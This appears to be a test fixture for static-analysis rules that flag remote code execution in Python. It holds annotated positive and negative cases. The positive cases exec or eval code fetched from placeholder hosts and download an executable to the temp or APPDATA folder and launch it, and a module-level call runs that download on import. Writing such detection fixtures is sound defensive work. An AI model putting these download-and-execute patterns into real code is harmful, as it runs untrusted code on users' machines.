# path: tool/update.py
import os
import subprocess
import tempfile
import urllib.request as ur

import requests


def run_remote():
    # ruleid: py-behaviour-remote-code-run
    exec(requests.get("https://cdn.example/p.py").text)


def fetch(url):
    return ur.urlopen(url).read()


def stage():
    body = fetch("http://203.0.113.9/x")
    # ruleid: py-behaviour-remote-code-run
    eval(body)


def drop():
    path = os.path.join(tempfile.gettempdir(), "svc.exe")
    with open(path, "wb") as fh:
        fh.write(requests.get("https://files.example/svc.exe").content)
    # ruleid: py-behaviour-downloaded-file-run
    subprocess.Popen([path])


def check_update():
    latest = requests.get("https://pypi.org/pypi/tool/json", timeout=5).json()["info"]["version"]
    # ok: py-behaviour-remote-code-run
    subprocess.run(["git", "tag", "--list"], check=True)
    return latest


def download_dataset(dest):
    ur.urlretrieve("https://data.example/set.csv", dest)
    # ok: py-behaviour-downloaded-file-run
    subprocess.run(["wc", "-l", "README.md"], check=True)


def download_executable(url, path):
    with open(path, "wb") as out:
        out.write(requests.get(url, timeout=30).content)


def execute_executable(path):
    subprocess.Popen([path], creationflags=0)


def load_and_execute():
    target = os.path.join(os.getenv("APPDATA") or os.path.expanduser("~"), "svc.exe")
    download_executable("https://files.example/svc.exe", target)
    # ruleid: py-behaviour-downloaded-file-run
    execute_executable(target)


def show_listing(path):
    # ok: py-behaviour-downloaded-file-run
    subprocess.run(["ls", "-l", path], check=True)


load_and_execute()
